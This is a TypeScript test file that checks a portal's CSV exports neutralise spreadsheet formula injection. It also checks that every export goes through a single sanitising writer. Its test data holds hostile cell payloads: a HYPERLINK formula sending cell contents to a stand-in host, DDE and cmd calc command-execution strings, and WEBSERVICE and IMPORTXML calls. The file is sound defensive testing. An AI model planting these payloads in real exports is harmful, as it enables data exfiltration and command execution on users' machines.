/** [T22] No exported file makes a spreadsheet evaluate user input as a formula. */
import { csvOf } from '@portal/contract'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readSources } from './source-tree.ts'

/** Formula prefixes, including full-width characters and invisible ones before them. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u3000=',
  '\ufeff=',
  '\t',
  '\r',
  '\n',
]
const formulas = [
  ['1+1', 'HYPERLINK("https://evil.example?"&A1,"x")', "cmd|' /C calc'!A0", 'SUM(1)*cmd', 'IMPORTXML("http://x")'],
  ['DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://x")', '1,2', '"quoted"', "'", '\r\n=2+2', ''],
].flat()
const hostile = beginnings.flatMap((begin) => formulas.map((formula) => `${begin}${formula}`))

function cellsOf(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true)
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false }) as string[][]
}

const isFormula = (cell: string): boolean => /^[\s\uFEFF]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)

test('[T22] a formula is text, in whatever column, and says what it said', () => {
  expect(hostile.length).toBeGreaterThan(200)
  const rows = hostile.map((text, n) => ['before', text, `${n}`, text])
  const cells = cellsOf(csvOf(rows))
  expect(cells).toHaveLength(rows.length)
  expect(cells.flat().filter(isFormula)).toEqual([])
  expect(cells.map((row) => row[1]!.replace(/^'/, ''))).toEqual(hostile.map((text) => text.replace(/^'/, '')))
  // control: the raw input would be a formula
  expect(hostile.filter(isFormula)).toHaveLength(hostile.length)
})

test('[T22] any text comes back as itself, or as itself behind an apostrophe; numbers stay numbers', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (row) => {
      const [cells] = cellsOf(csvOf([['x', ...row]]))
      for (const [n, text] of row.entries()) {
        expect([text, `'${text}`]).toContain(cells![n + 1])
        expect(isFormula(cells![n + 1]!)).toBe(false)
      }
    }),
    { numRuns: 200, seed: 22 },
  )
  expect(csvOf([[-5, 1.5, null]])).toBe('\uFEFF-5,1.5,\r\n')
})

/** All exports with their writers. A new export needs a line here. */
const exported: Readonly<Record<string, string>> = {
  'features/content/acknowledgements/web/OneMustRead.tsx': 'features/content/acknowledgements/evidence.ts',
  'features/events/activity-management/server/file-of-people.ts':
    'features/events/activity-management/server/file-of-people.ts',
  'features/foundation/access-control/server/handlers.ts': 'features/foundation/access-control/server/audit-file.ts',
  'features/plant/bus/server/handlers.ts': 'features/plant/bus/server/handlers.ts',
  // charts and tables saved in the browser
  'packages/ui/charts/save-csv.ts': 'packages/ui/charts/save-csv.ts',
}
/** Files that name an export without writing it. */
const naming = [
  'features/content/acknowledgements/server/handlers.ts',
  'features/content/acknowledgements/server/open-people.ts',
  'features/events/activity-management/server/people-handlers.ts',
  'features/events/activity-management/web/queries.ts',
  'features/foundation/access-control/web/AuditPage.tsx',
  'features/plant/bus/web/BusListPage.tsx',
]

test('[T22] every export is known, and made by the one writer', async () => {
  const sources = new Map([...(await readSources())].filter(([path]) => /^(features|packages|apps)/.test(path)))
  const filesWith = (what: RegExp) =>
    [...sources].flatMap(([path, text]) => (!/\.test(-kit)?\.tsx?$/.test(path) && what.test(text) ? [path] : []))
  const kinds = /type['"]?: ?['"`](?:text\/(?:csv|tab-separated-values)|application\/vnd\.ms-excel)/i
  expect(filesWith(kinds)).toEqual(Object.keys(exported))
  const named = filesWith(/(?:filename=|fileName|FileName|download = |-\$\{).*\.(?:csv|tsv|xlsx?)\b/)
  expect(named.filter((path) => !(path in exported))).toEqual(naming)
  for (const writer of Object.values(exported)) {
    expect(sources.get(writer), writer).toMatch(/import \{[^}]*\bcsv(?:Of|Cell)\b[^}]*\} from '@portal\/contract'/)
    // cells joined without the writer
    expect(
      sources.get(writer)!.replace(/map\(csvCell\)\.join\(','\)|evidenceHead\.join\(','\)/g, ''),
      writer,
    ).not.toMatch(/\.join\(['"`](?:,|;|\\t)/)
  }
  // the writer itself is tested above
  expect(filesWith(/function csv(?:Of|Cell)\(/)).toEqual(['packages/contract/csv.ts'])
})
